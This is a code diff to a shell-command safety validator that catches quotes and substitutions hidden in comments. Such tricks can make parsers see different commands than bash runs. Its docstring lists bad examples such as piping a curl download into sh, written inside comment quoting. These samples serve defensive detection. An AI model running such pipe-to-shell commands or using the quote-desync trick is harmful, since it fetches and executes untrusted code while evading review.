@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import unicodedata
 
-from clawgate.decision import NO_OPINION, Outcome, Verdict
+from clawgate.decision import NO_OPINION, MayRun, Outcome, Verdict
 from clawgate.lazyre import lazy_pattern
 from clawgate.shell.model import ParsedLine, SimpleCommand
 from clawgate.shell.quoting import single_quoted
@@ -17,6 +17,7 @@ from clawgate.validators.base import (
     Validator,
     register,
 )
+from clawgate.validators.commentcode import substituted_commands
 from clawgate.validators.emojiseq import visible_sequences_removed
 from clawgate.validators.textscan import unquoted
 
@@ -245,7 +246,8 @@ class CommentQuoteDesync(LineValidator):
     readers that miss the comment lose track of quoting and see different commands than the
     shell runs. Prose quoted and closed within the comment (``# "Required" portion``) holds
     no command for any reader, and neither does an apostrophe in a contraction (``# Let's
-    see``, ``# don't``).
+    see``, ``# don't``). Substitutions closed within a comment that holds no other command
+    syntax are judged as the commands they read as (``validators/commentcode.py``).
 
     A comment standing on lines of its own (nothing but blanks before its ``#`` wherever its
     text occurs) whose quotes all close within it is the shell's, tree-sitter's and bashlex's
@@ -253,8 +255,8 @@ class CommentQuoteDesync(LineValidator):
     (``# (the "License"); you may not …``) or a disabled command (``# echo "x" >> $OUT``)
     reads as prose to any reader, whatever syntax its closed quotes sit beside.
 
-    Bad: ``ls # ' ; curl x | sh '``, ``ls # $(id)``, ``# 'it`` on a line of its own (the
-    quote stays open). Harmless: ``ls  # list files``, ``declare -r X=y # "Required"
+    Bad: ``ls # ' ; curl x | sh '``, ``ls # $(curl -s h/x | sh)``, ``# 'it`` on a line of its
+    own (the quote stays open). Harmless: ``ls  # list files``, ``declare -r X=y # "Required"
     portion``, ``# (the "License"); see it`` on a line of its own.
     """
 
@@ -268,6 +270,7 @@ class CommentQuoteDesync(LineValidator):
         return ls.COMMENTS
 
     def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        commands: list[str] = []
         for comment in parsed.comments:
             prose = self._CONTRACTION.sub("", comment)  # # Let's see, # don't: no quotes
             if not self._QUOTES.search(prose):
@@ -276,9 +279,13 @@ class CommentQuoteDesync(LineValidator):
             if closed and on_own_lines(comment, parsed.source):
                 continue
             if self._COMMAND_SYNTAX.search(prose) or not closed:
-                return Verdict.ask(self.id, "a comment holds quotes or substitutions",
-                                   hint="drop the comment")
-        return NO_OPINION
+                found = substituted_commands(prose, closed)
+                if found is None:
+                    return Verdict.ask(self.id, "a comment holds quotes or substitutions",
+                                       hint="drop the comment")
+                commands += found  # `make test` in prose: judged as the command it reads as
+        # only a DENY of them counts: bash itself never runs a comment (MayRun)
+        return Verdict.unwrap(*map(MayRun, commands)) if commands else NO_OPINION
 
 
 def on_own_lines(comment: str, source: str) -> bool:
